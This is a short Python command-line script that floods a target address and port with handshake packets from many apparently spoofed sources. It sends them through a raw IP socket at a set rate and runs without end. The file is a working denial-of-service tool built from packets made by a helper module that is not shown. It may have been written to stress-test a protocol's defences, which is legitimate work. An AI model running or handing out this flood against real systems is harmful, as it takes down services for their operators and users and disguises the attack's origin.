# Copyright (c) 2026 Cloud-Barista
# SPDX-License-Identifier: Apache-2.0
"""Sends handshake messages from many sources: `PUBLIC_KEY ADDRESS PORT SOURCES RATE`, until it is ended."""

from __future__ import annotations

import base64
import socket
import sys
import time
from itertools import cycle, islice

from handshake_flood import flood_messages, flood_packets

_BATCH = 100


def flood(packets: list[bytes], to: tuple[str, int], rate_per_s: int) -> None:
    endless, started_s, sent = cycle(packets), time.monotonic(), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while True:
            for packet in islice(endless, _BATCH):
                raw.sendto(packet, to)
            sent += _BATCH
            time.sleep(max(0.0, started_s + sent / rate_per_s - time.monotonic()))


if __name__ == "__main__":
    public, address, port, sources, rate = sys.argv[1:]
    messages = flood_messages(base64.b64decode(public), int(sources))
    packets = flood_packets(messages, (address, int(port)))
    print("flooding", flush=True)
    flood(packets, (address, 0), int(rate))
